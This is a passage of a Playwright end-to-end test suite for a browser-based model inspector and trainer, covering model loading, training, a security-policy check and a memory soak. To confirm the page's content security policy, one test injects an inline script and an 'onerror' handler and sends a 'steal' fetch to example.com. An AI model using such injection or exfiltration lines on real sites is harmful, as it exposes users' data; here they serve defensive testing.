  const file = (name) => readFileSync(join(tiny, name));
  const asBuffer = (name, buffer) => ({ name, mimeType: 'application/octet-stream', buffer });
  const weights = file('model.safetensors');
  const cases = [
    ['truncated safetensors', { 'model.safetensors': weights.subarray(0, weights.length - 1000) },
      /model\.safetensors: the file is truncated/],
    ['a tokenizer of another model', { 'tokenizer.json': readFileSync(join(ROOT, 'assets', 'models', 'all-MiniLM-L6-v2', 'tokenizer.json')) },
      /tokenizer\.json has 30522 tokens but config\.json says vocab_size = 320/],
    ['an unsupported architecture', { 'config.json': Buffer.from(file('config.json').toString().replace('"model_type": "gpt2"', '"model_type": "mamba"')) },
      /model_type "mamba" is not supported \(supported: bert, gpt2, llama, mistral, qwen2, qwen3\)/],
    ['a config that is not JSON', { 'config.json': Buffer.from('{"model_type": "gpt2", ') },
      /config\.json: /],
  ];
  let words = 0;
  for (const [what, replaced, message] of cases) {
    await page.evaluate(() => document.querySelector('#status').classList.remove('error'));
    await page.setInputFiles('#model-files', ['config.json', 'tokenizer.json', 'model.safetensors']
      .map((name) => asBuffer(name, replaced[name] ?? file(name))));
    await page.waitForSelector('#status.error');
    const status = await page.textContent('#status');
    assert.match(status, message, what);
    assert.match(status, /still showing all-MiniLM-L6-v2/, `${what}: says which model stays`);
    assert.match(await page.textContent('#model-info'), /all-MiniLM-L6-v2 · bert/, `${what}: the model stays`);
    // The page still answers typing with the old model.
    words += 1;
    const text = `the party ${'again '.repeat(words)}`.trim();
    await page.fill('#sentence-a', text);
    await page.waitForFunction((n) => document.querySelectorAll('[data-testid=token][data-sentence=a]').length === n, words + 4);
  }
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});

test('a model folder on the site loads by its address, and a link carries it', async () => {
  const tiny = join(ROOT, 'tests', 'reference', 'fixtures', 'tiny-gpt2');
  const overrides = {};
  for (const name of ['config.json', 'tokenizer.json', 'model.safetensors']) {
    overrides[`/hosted/tiny-gpt2/${name}`] = readFileSync(join(tiny, name));
  }
  const hosted = await serve(join(ROOT, 'dist'), { overrides });
  const context = await session.browser.newContext({ viewport: { width: 1280, height: 720 } });
  try {
    await hostedFolder(hosted, context);
  } finally {
    await context.close();
    await hosted.close();
  }
});

async function hostedFolder(hosted, context) {
  const page = await context.newPage();
  const problems = [];
  page.on('console', (m) => { if (m.type() === 'error') problems.push(m.text()); });
  const foreign = [];
  context.on('request', (r) => { if (!r.url().startsWith(hosted.url)) foreign.push(r.url()); });
  await page.goto(`${hosted.url}?view=next&b=`);
  await ready(page);
  // Another site is refused before any request is made.
  await page.fill('#model-url', 'https://huggingface.co/gpt2');
  await page.click('#model-url-form button');
  await page.waitForSelector('#status.error');
  assert.match(await page.textContent('#status'), /only reads models from its own site/);
  // A folder that is not there: the file it missed, and the model stays.
  await page.fill('#model-url', 'hosted/nothing/');
  await page.click('#model-url-form button');
  await page.waitForFunction(() => /HTTP 404/.test(document.querySelector('#status').textContent));
  assert.match(await page.textContent('#status'), /hosted\/nothing\/config\.json: HTTP 404 \(not found on this site\) — still showing all-MiniLM-L6-v2/);
  // The real folder.
  await page.fill('#model-url', 'hosted/tiny-gpt2/');
  await page.click('#model-url-form button');
  await page.waitForFunction(() => /tiny-gpt2 · gpt2/.test(document.querySelector('#model-info').textContent));
  await settle(page);
  assert.match(page.url(), /model=hosted%2Ftiny-gpt2/);
  assert.equal(await page.$$eval('[data-testid=next-token-table] tbody tr', (r) => r.length), 10);
  const url = page.url();
  // The link opens that model straight away: the embedded weights are never fetched.
  const before = hosted.requests.length;
  const second = await context.newPage();
  await second.goto(url);
  await ready(second);
  assert.match(await second.textContent('#model-info'), /tiny-gpt2 · gpt2/);
  assert.equal(await second.inputValue('#model-url'), 'hosted/tiny-gpt2');
  const fetched = hosted.requests.slice(before);
  assert.ok(fetched.includes('/hosted/tiny-gpt2/model.safetensors'));
  assert.ok(!fetched.includes('/models/all-MiniLM-L6-v2/model.safetensors'), fetched.join(' '));
  // A link to a folder that is gone falls back to the embedded model, with the reason shown.
  const third = await context.newPage();
  await third.goto(`${hosted.url}?model=hosted%2Fgone`);
  await ready(third);
  assert.match(await third.textContent('#model-info'), /all-MiniLM-L6-v2 · bert/);
  assert.match(await third.textContent('#status'), /hosted\/gone\/config\.json: HTTP 404.*showing instead: all-MiniLM-L6-v2/);
  assert.ok(!third.url().includes('model='), 'the dead folder leaves the link');
  assert.deepEqual(foreign, []);
  assert.deepEqual(problems.filter((p) => !/404/.test(p)), []);
}

test('the embedded GPT: offered from BERT\'s next-token view, its predictions are the CLI\'s, and its loss curve is the recorded one', async () => {
  const { page, context, problems, foreign } = await openPage(link({ view: 'next', b: '' }));
  const gpt = join(ROOT, 'assets', 'models', 'tokenscope-gpt');
  await page.click('#next-table [data-action=use-gpt]');
  await page.waitForFunction(() => /tokenscope-gpt · gpt2/.test(document.querySelector('#model-info').textContent));
  await settle(page);
  assert.match(page.url(), /model=models%2Ftokenscope-gpt/);
  assert.equal(await page.$eval('#model-pick', (s) => s.selectedOptions[0].textContent), 'tokenscope-gpt · GPT-2');
  const prompt = 'students celebrate the graduation with a big';
  await page.fill('#sentence-a', prompt);
  const cli = JSON.parse(execFileSync(CLI, ['inspect', '--model', gpt, '--text', prompt, '--top', '10', '--fields', 'ids,next_token']).toString());
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=token][data-sentence=a]').length === n, cli.ids.length);
  await settle(page);
  const next = await readTable(page, '[data-testid=next-token-table]');
  next.cells.forEach((row, r) => {
    assert.equal(Number(row[1]), cli.next_token.top[r].id, `rank ${r + 1}`);
    assert.ok(Math.abs(Number(row[2]) - cli.next_token.top[r].prob) <= 0.00005 + 1e-6, `rank ${r + 1} prob`);
  });
  await page.screenshot({ path: join(SHOTS, 'next-token-tokenscope-gpt.png'), fullPage: true });
  // The learning view draws the model's own training record.
  const record = JSON.parse(readFileSync(join(gpt, 'training.json'), 'utf8'));
  await page.click('nav.tabs button[data-view=learn]');
  await page.waitForSelector('[data-testid=loss-table]', { state: 'attached' });
  await page.waitForSelector('#canvas-loss[data-drawn="1"]');
  const table = await readTable(page, '[data-testid=loss-table]');
  const held = heldOutHistory(record);
  assert.deepEqual(table.rows, held.map((p) => p.label));
  table.cells.forEach((row, r) => assert.equal(row[0], held[r].loss.toFixed(4)));
  const facts = await page.textContent('#learn-facts');
  for (let run = record; run; run = run.init && run.init.base) {
    assert.ok(facts.includes(run.corpus), `the facts name the text of every run: ${run.corpus}`);
    assert.match(facts, new RegExp(`perplexity ${run.held_out_perplexity.toFixed(1)}`));
  }
  assert.ok(held[held.length - 1].loss < Math.log(record.vocab_size) - 2, 'the embedded GPT learned well below guessing');
  await page.screenshot({ path: join(SHOTS, 'learning.png'), fullPage: true });
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});

/**
 * Every held-out measurement of a training.json, as the learning view lists them: the runs
 * the model went on from (`init.base`) first, each run's steps after the runs before it, and
 * a later run's first row the earlier model measured on that run's held-out text.
 */
function heldOutHistory(record) {
  const chain = [];
  for (let run = record; run; run = run.init && run.init.base) chain.unshift(run);
  const rows = [];
  let first = 0;
  for (const run of chain) {
    const before = run.init && run.init.held_out_loss_before;
    if (before !== undefined && before !== null) rows.push({ label: `${first} (more text from here)`, loss: before });
    for (const p of run.history) {
      if (p.held_out_loss !== null) rows.push({ label: String(first + p.step), loss: p.held_out_loss });
    }
    first += run.settings.steps;
  }
  return rows;
}

/** The files of a zip whose entries are stored uncompressed (as the page writes them). */
function unzipStored(buffer) {
  const end = buffer.length - 22;
  assert.equal(buffer.readUInt32LE(end), 0x06054b50, 'end of the zip directory');
  const files = {};
  let at = buffer.readUInt32LE(end + 16);
  for (let i = 0; i < buffer.readUInt16LE(end + 10); i++) {
    const size = buffer.readUInt32LE(at + 20);
    const nameLength = buffer.readUInt16LE(at + 28);
    const local = buffer.readUInt32LE(at + 42);
    const name = buffer.toString('utf8', at + 46, at + 46 + nameLength);
    const data = local + 30 + buffer.readUInt16LE(local + 26) + buffer.readUInt16LE(local + 28);
    files[name] = buffer.subarray(data, data + size);
    at += 46 + nameLength;
  }
  return files;
}

/** The share of a sample's words that are words of the text it learned from. */
function knownWords(sample, words) {
  const found = sample.toLowerCase().match(/[a-z]+/g) ?? [];
  return found.length ? found.filter((w) => words.has(w)).length / found.length : 0;
}

test('a student pastes paragraphs, presses Train, and watches the loss fall and the samples turn into words', async () => {
  const paragraphs = readFileSync(join(ROOT, 'tests', 'e2e', 'fixtures', 'paragraphs.txt'), 'utf8');
  const words = new Set(paragraphs.toLowerCase().match(/[a-z]+/g));
  const { page, context, problems, foreign } = await openPage(link({ view: 'train' }));
  // Dropping a .txt file on the box fills it and picks "my text".
  const dataTransfer = await page.evaluateHandle((text) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], 'class.txt', { type: 'text/plain' }));
    return dt;
  }, paragraphs);
  await page.dispatchEvent('#train-text', 'drop', { dataTransfer });
  await page.waitForFunction(() => document.querySelector('#train-text').value.length > 500);
  assert.ok(await page.isChecked('#train-source-own'));
  await page.fill('#train-steps', '400');
  const started = Date.now();
  await page.click('#train-go');
  await page.waitForSelector('#train-go[data-phase=running]');

  // The page stays responsive: typing still re-runs the model the other views show.
  await page.fill('#sentence-a', 'a cat and a dog');
  await settle(page);
  assert.equal((await chips(page, 'a')).map((c) => c.text).join(' '), '[CLS] a cat and a dog [SEP]');

  // Pause holds the step; Continue goes on.
  await page.waitForFunction(() => Number(document.querySelector('#train-status').dataset.step) >= 100);
  await page.click('#train-go');
  await page.waitForSelector('#train-go[data-phase=paused]');
  const paused = await page.getAttribute('#train-status', 'data-step');
  await page.waitForTimeout(1000);
  assert.equal(await page.getAttribute('#train-status', 'data-step'), paused, 'no steps while paused');
  assert.ok(await page.isEnabled('#train-download'), 'a paused run can be downloaded');
  await page.click('#train-go');
  await page.waitForSelector('#train-go[data-phase=finished]', { timeout: 120_000 });
  const seconds = (Date.now() - started) / 1000;

  const first = Number(await page.getAttribute('#train-status', 'data-first-loss'));
  const last = Number(await page.getAttribute('#train-status', 'data-loss'));
  assert.ok(last < first - 2, `training loss fell: ${first} → ${last}`);
  const samples = await page.$$eval('#train-samples li', (items) =>
    items.map((li) => ({ step: Number(li.dataset.step), sample: li.querySelector('.sample').textContent })));
  const atStart = samples.find((s) => s.step === 0);
  const atEnd = samples[0];
  assert.equal(atEnd.step, 400);
  assert.ok(knownWords(atStart.sample, words) < 0.5, `step 0 is noise: ${atStart.sample}`);
  assert.ok(knownWords(atEnd.sample, words) > 0.8, `step 400 writes words: ${atEnd.sample}`);
  // One memorised text: the page says the model is memorising rather than learning.
  assert.match(await page.textContent('#train-advice'), /memorising/);
  const table = await readTable(page, '[data-testid=train-table]');
  assert.deepEqual(table.rows.slice(0, 3), ['0', '25', '50']);
  assert.equal(table.cols.length, 4, 'held-out loss and three word pairs');
  table.cells.flat().filter((c) => c !== '—').forEach((c) => assert.ok(Math.abs(Number(c)) <= 12, c));
  for (const canvas of ['train-loss', 'train-pairs', 'train-attention']) {
    await page.waitForSelector(`#canvas-${canvas}[data-drawn="1"]`);
  }
  await page.screenshot({ path: join(SHOTS, 'train.png'), fullPage: true });
  console.log(`  trained 400 steps in ${seconds.toFixed(1)} s (pause included): ${atStart.sample} → ${atEnd.sample}`);

  // The trained model downloads as a folder that the CLI loads and runs.
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#train-download')]);
  const zipPath = join(SHOTS, 'trained.zip');
  await download.saveAs(zipPath);
  const files = unzipStored(readFileSync(zipPath));
  const folder = join(SHOTS, 'trained');
  mkdirSync(folder, { recursive: true });
  const names = Object.keys(files).map((n) => n.split('/').pop()).sort();
  assert.deepEqual(names, ['config.json', 'model.safetensors', 'tokenizer.json', 'training.json']);
  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name.split('/').pop()), bytes);
  const record = JSON.parse(readFileSync(join(folder, 'training.json'), 'utf8'));
  assert.equal(record.settings.steps, 400);
  const cli = existsSync(CLI) ? [CLI] : ['cargo', 'run', '-q', '--bin', 'tokenscope', '--'];
  const generated = JSON.parse(execFileSync(cli[0], [...cli.slice(1), 'generate', '--model', folder,
    '--text', 'The students', '--temperature', '0', '--max-tokens', '8', '--json'], { cwd: ROOT }).toString());
  assert.equal(generated.steps.length > 0, true);

  // Used in every view: the sentence is read by the trained model, and the learning view
  // shows this run.
  await page.click('#train-use');
  await ready(page);
  assert.match(await page.textContent('#model-info'), /trained here/);
  const gpt = await chips(page, 'a');
  assert.ok(gpt.length > 0 && gpt.every((c) => c.id < record.vocab_size), 'tokens of the trained vocabulary');
  await page.click('nav.tabs button[data-view=next]');
  await page.waitForSelector('#canvas-next[data-drawn="1"]');
  await page.click('nav.tabs button[data-view=learn]');
  await page.waitForSelector('[data-testid=loss-table]', { state: 'attached' });
  assert.match(await page.textContent('#learn-facts'), /text given in the page/);
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});

test('the shipped sample trains, and bad training settings get a message', async () => {
  const { page, context, problems } = await openPage(link({ view: 'train' }));
  await page.fill('#train-width', '30'); // not divisible by 4 heads
  await page.fill('#train-heads', '4');
  await page.click('#train-go');
  await page.waitForSelector('#train-status.error');
  assert.match(await page.textContent('#train-status'), /width \(30\) must divide evenly among the heads \(4\)/);
  await page.fill('#train-width', '32');
  await page.check('#train-source-own');
  await page.fill('#train-text', 'too short');
  await page.click('#train-go');
  await page.waitForFunction(() => /needs at least/.test(document.querySelector('#train-status').textContent));
  await page.check('#train-source-sample');
  await page.fill('#train-steps', '60');
  await page.click('#train-go');
  await page.waitForSelector('#train-go[data-phase=finished]', { timeout: 120_000 });
  assert.match(await page.textContent('#train-status'), /step 60 \/ 60/);
  assert.ok(!(await page.isEnabled('#train-width')), 'settings are locked while a run exists');
  await page.click('#train-reset');
  await page.waitForSelector('#train-go[data-phase=idle]');
  assert.ok(await page.isEnabled('#train-width'));
  assert.equal(await page.$$eval('#train-samples li[data-step]', (l) => l.length), 0);
  assert.deepEqual(problems, []);
  await context.close();
});

test('nothing leaves the page: every view asks only its own origin, and the policy blocks inline scripts and outside requests', async () => {
  const { page, context, problems, foreign } = await openPage(link({ a: CELEBRATION, b: POLITICS }));
  for (const view of await allViews(page)) {
    await page.click(`nav.tabs button[data-view=${view}]`);
    await page.waitForTimeout(150);
  }
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(script);
    const img = document.createElement('div');
    img.innerHTML = '<img src="data:," onerror="window.__handlerRan = true">';
    document.body.appendChild(img);
    let fetched = 'sent';
    try {
      await fetch('https://example.com/steal?text=party');
    } catch {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 200));
    return { inline: window.__inlineRan === true, handler: window.__handlerRan === true, fetched, violations };
  });
  assert.equal(outcome.inline, false, 'an inline script did not run');
  assert.equal(outcome.handler, false, 'an inline event handler did not run');
  assert.equal(outcome.fetched, 'blocked', 'a request to another site is refused');
  assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), `violations: ${outcome.violations}`);
  assert.ok(outcome.violations.some((d) => d.startsWith('connect-src')), `violations: ${outcome.violations}`);
  assert.deepEqual(foreign, [], 'no request outside the origin');
  // The blocked attempts above log CSP errors by design; nothing else may.
  assert.deepEqual(problems.filter((p) => !/Content Security Policy|Failed to fetch|ERR_BLOCKED/.test(p)), []);
  await context.close();
});

test('soak: 1,000 updates in a row leave memory flat and the console clean', async () => {
  // Sentence A alone: B would double every update's work without new code paths.
  const { page, context, problems, foreign } = await openPage(link({ a: CELEBRATION, b: '' }));
  const cdp = await context.newCDPSession(page);
  const texts = [
    'students celebrate the graduation with a big party',
    'deputy leader is highly respected in the party',
    'a cat and a dog 🐱🐶 share a banana',
    '派对 和 party 是 同一个 意思 吗',
    'مرحبا party <b>bold</b> &amp; zero\u200bwidth',
    'Tim chased clouds all his life',
  ];
  const markers = ['apple', 'river', 'window', 'music', 'garden', 'yellow', 'winter'];
  const views = [...VIEWS, 'generate', 'learn'];
  // Every sample is taken in the same view (the tokens view), then the soak's view comes
  // back: the learning view alone keeps a few hundred table rows, so heaps of different
  // views differ by more than a leak would show in 1,000 updates.
  // Before a sample the same sentence is shown in every view, so every view's last drawing
  // (which the page keeps to skip unchanged writes) is the same at every sample.
  async function measure(view) {
    await type(texts[0], 'apple');
    for (const shown of [...views, 'tokens']) {
      await page.click(`nav.tabs button[data-view=${shown}]`);
      await ready(page);
    }
    await cdp.send('HeapProfiler.collectGarbage');
    const heap = await cdp.send('Runtime.getHeapUsage');
    const body = await page.$eval('body', (b) => ({
      worker: Number(b.dataset.workerMemory),
      page: Number(b.dataset.pageMemory),
      pageHeap: Number(b.dataset.pageHeap),
    }));
    await page.click(`nav.tabs button[data-view=${view}]`);
    return { js: heap.usedSize, ...body };
  }
  // The JS heap is sampled every 100 updates and the largest of updates 800–1,000 is held
  // against the largest of 200–400: a leak grows that, a garbage collection's timing does
  // not. The page's live wasm heap (bytes allocated and not freed) is held the same way.
  // Wasm memory never shrinks, so its last size is held against its size at update 200.
  // A view's first showing compiles its code and fills its caches for good (the heap steps
  // up once, by up to 10 %), and its largest text raises wasm memory's high-water mark for
  // good: every view is shown with every text before the soak, so a step means a leak.
  async function type(text, marker) {
    await page.fill('#sentence-a', `${text} ${marker}`);
    await page.waitForFunction((m) => {
      const chips = [...document.querySelectorAll('[data-testid=token][data-sentence=a]')];
      return chips.length > 1 && chips[chips.length - 2].textContent === m && document.body.dataset.state === 'ready';
    }, marker, { polling: 20 });
  }
  for (const view of views) {
    await page.click(`nav.tabs button[data-view=${view}]`);
    await ready(page);
    for (const [t, text] of texts.entries()) await type(text, markers[t % markers.length]);
  }
  const samples = new Map();
  const started = Date.now();
  const viewAt = (i) => views[Math.floor((i - 1) / 100) % views.length];
  for (let i = 1; i <= 1000; i++) {
    if (i % 100 === 1) await page.click(`nav.tabs button[data-view=${viewAt(i)}]`);
    // Consecutive updates end in different one-token words, so the chips show which arrived.
    await type(texts[i % texts.length], markers[i % markers.length]);
    if (i >= 200 && i % 100 === 0) samples.set(i, await measure(viewAt(i)));
  }
  console.log('  samples [update, JS heap, page live wasm heap, page wasm memory]',
    JSON.stringify([...samples].map(([i, m]) => [i, m.js, m.pageHeap, m.page])));
  const largest = (from, to, key) => Math.max(...[...samples].filter(([i]) => i >= from && i <= to).map(([, m]) => m[key]));
  const warm = { js: largest(200, 400, 'js'), pageHeap: largest(200, 400, 'pageHeap'), page: samples.get(200).page, worker: samples.get(200).worker };
  const end = { js: largest(800, 1000, 'js'), pageHeap: largest(800, 1000, 'pageHeap'), page: samples.get(1000).page, worker: samples.get(1000).worker };
  const seconds = (Date.now() - started) / 1000;
  console.log(`  1,000 updates in ${seconds.toFixed(0)} s; largest of 200–400 → of 800–1,000: JS heap ${warm.js} → ${end.js} B, page live wasm heap ${warm.pageHeap} → ${end.pageHeap} B; after 200 → after 1,000: page wasm ${warm.page} → ${end.page} B, worker wasm ${warm.worker} → ${end.worker} B`);
  // How much each figure may grow. The page's live wasm heap is exact and every sample sees
  // the same state, so it must stay within 1 % (it has been equal to the byte). The page's
  // wasm memory is dlmalloc's high-water mark: with the live heap unchanged to the byte it
  // has stepped up by 6 % after a full warm-up and by 15.5 % without one (one to three 64 KiB
  // pages as freed blocks fragment), so it is held to a quarter, which still catches memory
  // that runs away; a leak shows in the live heap long before it shows there.
  const allowed = { js: 0.1, pageHeap: 0.01, page: 0.25, worker: 0.1 };
  for (const [key, growth] of Object.entries(allowed)) {
    assert.ok(warm[key] > 0, `${key} memory measured`);
    assert.ok(end[key] <= warm[key] * (1 + growth), `${key} memory grew more than ${growth * 100} %: ${warm[key]} → ${end[key]}`);
  }
  assert.deepEqual(problems, []);
  assert.deepEqual(foreign, []);
  await context.close();
});
